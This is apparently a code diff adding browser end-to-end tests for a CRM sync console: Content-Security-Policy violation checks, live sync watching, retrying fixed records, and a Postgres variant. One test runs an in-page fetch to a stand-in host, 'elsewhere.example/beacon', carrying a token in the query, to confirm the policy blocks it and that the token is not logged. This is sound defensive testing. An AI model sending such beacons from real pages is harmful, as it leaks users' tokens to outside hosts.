@@ -16,10 +16,28 @@ use serde_json::{Value, json};
 /// An app whose bundled plugins point at fresh emulators, and a browser; `None` when the backend
 /// or the browser is unavailable (and not required).
 async fn start(backend: Backend, console: crmhost::console::ConsoleBranding) -> Option<(TestApp, Browser)> {
+    crmhost_tests::capture_logs();
     let sim = std::sync::Arc::new(crm_sim::start(crm_sim::SimOptions::both_on_free_ports()).await.expect("emulators"));
     let app = TestApp::spawn(AppOptions { backend, sim: Some(sim), console, ..AppOptions::default() }).await?;
     let browser = Browser::start(1280, 900).await?;
     Some((app, browser))
+}
+
+/// What browsers reported the console's Content-Security-Policy blocked on this app's pages
+/// (each report is one warning in the log, naming the page).
+fn csp_violations(base: &str) -> Vec<String> {
+    let page = format!("document={base}/console");
+    crmhost_tests::captured_logs()
+        .lines()
+        .filter(|l| l.contains("Content-Security-Policy") && l.contains(&page))
+        .map(str::to_owned)
+        .collect()
+}
+
+/// Fails if a browser reported a blocked request, script, style or image on this app's pages.
+fn assert_no_csp_violations(base: &str) {
+    let violations = csp_violations(base);
+    assert!(violations.is_empty(), "the console requested something its policy forbids:\n{}", violations.join("\n"));
 }
 
 fn console_url(app: &TestApp, token: &str) -> String {
@@ -153,6 +171,7 @@ async fn connect_configure_and_manage(backend: Backend, crm: CrmCase, shots: &st
         .filter(|u| !u.as_str().unwrap_or("").starts_with(&app.base))
         .collect();
     assert!(foreign.is_empty(), "requests to other origins: {foreign:?}");
+    assert_no_csp_violations(&app.base);
     browser.close().await;
 }
 
@@ -247,6 +266,20 @@ async fn an_operator_brands_the_console_and_it_is_served_under_a_strict_policy()
     assert_eq!(header, "rgb(124, 58, 237)");
     assert_eq!(browser.script("return document.documentElement.dataset.theme").await, "dark");
     browser.screenshot("integrations-branded-dark").await;
+    assert_no_csp_violations(&app.base);
+
+    // Anything from another origin is blocked, and the browser's report reaches the server's log.
+    browser.script("fetch('https://elsewhere.example/beacon?token=do-not-log').catch(() => {}); return null").await;
+    assert!(
+        eventually(Duration::from_secs(10), || async { !csp_violations(&app.base).is_empty() }).await,
+        "the blocked request was reported"
+    );
+    let reported = csp_violations(&app.base).join("\n");
+    assert!(
+        reported.contains("connect-src") && reported.contains("blocked=https://elsewhere.example/beacon"),
+        "{reported}"
+    );
+    assert!(!reported.contains("do-not-log"), "a report's query is not logged: {reported}");
     browser.close().await;
 }
 
@@ -305,13 +338,32 @@ async fn settings_change_the_schedule_filters_and_options_and_errors_show_beside
     browser.click("Resume syncing").await;
     browser.wait_for_text("Syncing resumed.").await;
     browser.control("Pause syncing").await;
+    assert_no_csp_violations(&app.base);
     browser.close().await;
 }
 
-#[tokio::test]
-async fn history_shows_runs_failures_by_cause_and_a_run_with_its_errors_and_retries_them() {
-    let Some((app, browser)) = start(Backend::Sqlite, Default::default()).await else { return };
+/// Sync now from the card, then watch the run live: the page shows its progress from the event
+/// stream while it runs (the emulator answers slowly, so it runs a few seconds), then its result.
+async fn sync_now_and_watch_it_live(app: &TestApp, browser: &Browser) {
+    app.sim().sim().seed("contact", 4).expect("seeded");
+    app.sim().sim().update_knobs(|k| k.latency_ms = 600).expect("knobs");
+    browser.open(&console_url(app, &token("w1", Role::Member))).await;
+    browser.wait_for_text("Connected as").await;
+    browser.click("Sync now").await;
+    browser.click("Watch it live").await;
+    browser.wait_for_text("Running: ").await;
+    browser.screenshot("history-live").await;
+    app.sim().sim().update_knobs(|k| k.latency_ms = 0).expect("knobs");
+    browser.wait_for_text("Records").await;
+    browser.wait_for_no_text("Running: ").await;
+    let summary = browser.text_of("#run-title").await;
+    assert!(summary.contains("completed"), "the page shows how the run ended: {summary}");
+}
+
+async fn history_journey(backend: Backend) {
+    let Some((app, browser)) = start(backend, Default::default()).await else { return };
     assert_eq!(app.connect("w1", "salesforce").await.status(), reqwest::StatusCode::OK);
+    sync_now_and_watch_it_live(&app, &browser).await;
     // Four contacts, one with an email Salesforce refuses, pushed once.
     let records: Vec<Value> = (0..4)
         .map(|i| json!({"id": format!("c{i}"), "fields": {"email": if i == 2 { "not-an-email".to_owned() } else { format!("c{i}@example.com") }, "last_name": format!("L{i}")}}))
@@ -353,5 +405,37 @@ async fn history_shows_runs_failures_by_cause_and_a_run_with_its_errors_and_retr
     type_into(&browser, "#to", "01/01/2020").await;
     browser.click("Apply").await;
     browser.wait_for_text("No runs match these filters.").await;
+
+    // Fix the record's data, then retry the whole group from "what is failing now".
+    let fix = app
+        .as_role(Method::PUT, "/api/v1/workspaces/w1/records/contact", "w1", Role::Admin)
+        .json(&json!({"records": [{"id": "c2", "fields": {"email": "c2@example.com", "last_name": "L2"}}]}));
+    assert!(fix.send().await.expect("put").status().is_success());
+    browser.open(&format!("{}/console/#/integrations/salesforce/history?status=partial", app.base)).await;
+    browser.wait_for_text("What is failing now: 1 record").await;
+    browser.click_css("details.group summary").await;
+    browser.click("Retry these 1").await;
+    browser.wait_for_text("Retrying 1 record").await;
+    let failures_path = "/api/v1/workspaces/w1/integrations/salesforce/failures";
+    assert!(
+        eventually(Duration::from_secs(20), || async {
+            api_json(&app, Method::GET, failures_path).await["total"] == 0
+        })
+        .await,
+        "the retried group synced once its data was fixed"
+    );
+    browser.open(&format!("{}/console/#/integrations/salesforce/history", app.base)).await;
+    browser.wait_for_text("Nothing is failing.").await;
+    assert_no_csp_violations(&app.base);
     browser.close().await;
+}
+
+#[tokio::test]
+async fn history_shows_runs_failures_by_cause_and_a_run_with_its_errors_and_retries_them() {
+    history_journey(Backend::Sqlite).await;
+}
+
+#[tokio::test]
+async fn the_sync_journey_works_on_postgres_too() {
+    history_journey(Backend::Postgres).await;
 }
